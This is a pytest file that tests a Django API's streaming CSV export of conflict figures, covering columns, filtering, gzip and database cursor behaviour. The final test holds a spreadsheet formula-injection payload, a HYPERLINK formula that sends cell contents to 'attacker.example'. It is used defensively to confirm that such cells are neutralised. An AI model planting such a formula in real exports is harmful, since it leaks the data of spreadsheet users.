"""The CSV export: the same filters, every row, the import's columns, as an attachment."""

import csv
import datetime
import io

import psycopg
import pytest
from django.db import connection

from stats.csvformat import FIGURE_CSV, FIGURE_CSV_COLUMNS
from stats.models import Figure
from tests.factories import FigureFactory, ReportFactory, SourceFactory

pytestmark = pytest.mark.django_db

COLUMNS = (
    "id,conflict,party,category,claimed_by,value,value_low,value_high,qualifier,basis,period_start,period_end,"
    "date_precision,report_title,report_url,report_published_on,publisher,quote,notes,dataset,updated_at"
)


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))


def test_it_streams_every_matching_figure_as_csv(api, figure):
    published = FigureFactory(
        report=ReportFactory(title='Losses, "daily"', publisher=SourceFactory(slug="mod")),
        value_low=1, value_high=2, quote="Line one\nline two", party=figure.party, category=figure.category,
    )
    response = api.get("/api/v1/figures/export/", {"party": figure.party.slug, "ordering": "id"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="conflictdata-figures-')
    assert response.streaming
    rows = read_csv(response)
    assert ",".join(rows[0]) == COLUMNS
    assert [row[0] for row in rows[1:]] == [str(figure.pk), str(published.pk)]
    last = dict(zip(rows[0], rows[2], strict=True))
    assert last["report_title"] == 'Losses, "daily"'
    assert last["quote"] == "Line one\nline two"
    assert (last["value_low"], last["value_high"], last["period_start"], last["publisher"]) == ("1", "2", "", "mod")
    assert last["report_url"] == published.report.url
    assert last["updated_at"] == Figure.objects.get(pk=published.pk).updated_at.isoformat()
    assert last["updated_at"].endswith("+00:00")


def test_an_export_matching_nothing_is_its_header(api, figure):
    response = api.get("/api/v1/figures/export/", {"value_min": figure.value + 1})
    assert response.status_code == 200
    assert read_csv(response) == [COLUMNS.split(",")]


def test_an_accept_text_csv_client_gets_it(api, figure):
    response = api.get("/api/v1/figures/export/", HTTP_ACCEPT="text/csv")
    assert response.status_code == 200
    assert len(read_csv(response)) == 2


def test_export_errors_are_json(api, figure):
    response = api.get("/api/v1/figures/export/", {"catgory": "x"}, HTTP_ACCEPT="text/csv")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert list(response.json()["errors"]) == ["catgory"]


def test_export_takes_no_page_parameters(api, figure):
    response = api.get("/api/v1/figures/export/", {"page": 2})
    assert response.status_code == 400
    assert list(response.json()["errors"]) == ["page"]


@pytest.mark.django_db(transaction=True)
def test_a_slow_export_client_holds_no_transaction(api):
    # Autocommit, as in production: the rows come from a cursor held outside any transaction (PostgreSQL's
    # WITH HOLD), so a client reading slowly keeps no transaction, and no lock, open.
    if connection.vendor != "postgresql":
        pytest.skip("server-side cursors are PostgreSQL's")
    first = FigureFactory(period_end=datetime.date(2024, 12, 1))
    same = {name: getattr(first, name) for name in ("conflict", "party", "category", "claimed_by", "report")}
    Figure.objects.bulk_create(
        Figure(**same, basis=basis, value=day, period_start=datetime.date(2022, 3, 1) + datetime.timedelta(days=day),
               period_end=datetime.date(2024, 12, 1))
        for day in range(1000) for basis in ("claimed", "estimated", "confirmed")
    )
    blocks = iter(api.get("/api/v1/figures/export/").streaming_content)
    first_block = next(blocks)  # the header and 2,000 rows sent; 1,001 rows not yet read
    assert connection.connection.info.transaction_status == psycopg.pq.TransactionStatus.IDLE
    assert first_block.count(b"\n") + sum(block.count(b"\n") for block in blocks) == 1 + 3001


def test_each_column_is_read_from_the_path_the_format_declares_for_it(api):
    """FIGURE_CSV is the one declaration of the columns and where each comes from: a cell per column, from its path."""
    figure = FigureFactory(
        report=ReportFactory(publisher=SourceFactory(slug="the-publisher")), value_low=5, value_high=9,
        period_start=None, quote="q", notes="n",
    )
    rows = read_csv(api.get("/api/v1/figures/export/"))
    assert rows[0] == FIGURE_CSV_COLUMNS == list(FIGURE_CSV)
    exported = dict(zip(rows[0], rows[1], strict=True))
    for column, path in FIGURE_CSV.items():
        expected = figure.follow(path)
        shown = "" if expected is None else expected.isoformat() if column == "updated_at" else str(expected)
        assert exported[column] == shown, column
    assert exported["publisher"] == "the-publisher"


def test_the_export_is_compressed_for_a_client_that_accepts_gzip(api):
    import gzip

    FigureFactory.create_batch(3)
    plain = b"".join(api.get("/api/v1/figures/export/").streaming_content)
    response = api.get("/api/v1/figures/export/", HTTP_ACCEPT_ENCODING="gzip, deflate")
    assert response["Content-Encoding"] == "gzip"
    assert "Accept-Encoding" in response["Vary"]
    assert gzip.decompress(b"".join(response.streaming_content)) == plain
    assert "Content-Encoding" not in api.get("/api/v1/figures/export/", HTTP_ACCEPT_ENCODING="br")


def test_a_text_cell_a_spreadsheet_would_run_is_neutralised(api):
    figure = FigureFactory(quote='=HYPERLINK("https://attacker.example/?leak="&A1,"click")', notes="@SUM(A1)",
                           report=ReportFactory(title="+1 in a day"))
    cells = dict(zip(*read_csv(api.get("/api/v1/figures/export/"))[:2], strict=True))
    assert (cells["quote"], cells["notes"], cells["report_title"]) == (
        "'" + figure.quote, "'@SUM(A1)", "'+1 in a day",
    )
